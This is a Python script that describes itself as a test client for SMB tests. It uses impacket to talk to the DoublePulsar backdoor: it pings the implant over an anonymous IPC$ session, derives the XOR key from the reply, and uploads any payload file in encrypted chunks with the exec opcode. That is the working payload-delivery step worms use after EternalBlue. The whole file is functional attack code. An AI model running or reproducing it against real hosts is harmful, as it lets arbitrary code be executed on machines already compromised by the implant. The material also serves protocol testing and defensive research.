#!/usr/bin/python3
"""A DoublePulsar client for the SMB tests, written with impacket's SMB1 client.

It does what worms do after EternalBlue: an anonymous session, a tree connect to IPC$, the
implant's ping (TRANS2 SESSION_SETUP, multiplex id 0x41, opcode 0x23 hidden in the Timeout
field), the XOR key derived from the signature field of the answer, then the payload uploaded
with exec (opcode 0xc8) in 4096-byte chunks whose 12 parameter bytes (total size, chunk size,
offset) and data are XOR-encrypted with that key. The wire format follows the public analyses
(zerosum0x0, Countercept, Metasploit's doublepulsar_rce); this is a test client, not a copy.

Usage: doublepulsar_upload.py HOST PORT PAYLOAD_FILE
Prints one JSON object: the multiplex ids answered, the key, the architecture flag.
"""
import json
import random
import struct
import sys

from impacket import smb

PING, EXEC = 0x23, 0xC8
CHUNK = 4096


def xor_key(s):
    x = (2 * s ^ (((s & 0xFF00 | (s << 16)) << 8) | (((s >> 16) | s & 0xFF0000) >> 8)))
    return x & 0xFFFFFFFF


def xor(data, key):
    k = struct.pack("<I", key)
    return bytes(b ^ k[i % 4] for i, b in enumerate(data))


def timeout_for(op):
    """A Timeout whose byte sum is `op` (bytes 1 and 2 random)."""
    r = random.getrandbits(32) & 0x00FFFF00
    low = (op - ((r >> 8) & 0xFF) - ((r >> 16) & 0xFF)) & 0xFF
    return r | low


def trans2(conn, tid, mid, op, params, data):
    pkt = smb.NewSMBPacket()
    pkt["Tid"] = tid
    pkt["Mid"] = mid
    cmd = smb.SMBCommand(smb.SMB.SMB_COM_TRANSACTION2)
    p = smb.SMBTransaction2_Parameters()
    p["Setup"] = struct.pack("<H", 0x000E)
    p["TotalParameterCount"] = len(params)
    p["TotalDataCount"] = len(data)
    p["MaxParameterCount"] = 1
    p["MaxDataCount"] = 0
    p["Timeout"] = timeout_for(op)
    # Header 32, word count 1, 15 words, byte count 2: the data area starts at 65.
    param_offset = 68
    data_offset = param_offset + len(params)
    p["ParameterCount"] = len(params)
    p["ParameterOffset"] = param_offset
    p["DataCount"] = len(data)
    p["DataOffset"] = data_offset
    d = smb.SMBTransaction2_Data()
    d["Pad1"] = b"\x00" * (param_offset - 65)
    d["Trans_Parameters"] = params
    d["Pad2"] = b""
    d["Trans_Data"] = data
    cmd["Parameters"] = p
    cmd["Data"] = d
    pkt.addCommand(cmd)
    conn.sendSMB(pkt)
    r = conn.recvSMB()
    sig = r["SecurityFeatures"]
    return r["Mid"], struct.unpack("<I", sig[:4])[0], struct.unpack("<I", sig[4:8])[0]


def main():
    host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    payload = open(path, "rb").read()
    conn = smb.SMB("*SMBSERVER", host, sess_port=port, timeout=20)
    conn.login("", "")
    tid = conn.tree_connect_andx("\\\\%s\\IPC$" % host)
    mid, sig, arch = trans2(conn, tid, 0x41, PING, b"\x00" * 12, b"")
    out = {"ping_mid": mid, "arch": arch, "chunks": []}
    if mid != 0x51:
        print(json.dumps(out))
        return 1
    key = xor_key(sig)
    out["key"] = key
    for offset in range(0, len(payload), CHUNK):
        chunk = payload[offset:offset + CHUNK]
        params = xor(struct.pack("<III", len(payload), len(chunk), offset), key)
        mid = random.randrange(0x100, 0xFF00)
        answered, _, _ = trans2(conn, tid, mid, EXEC, params, xor(chunk, key))
        out["chunks"].append(answered - mid)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
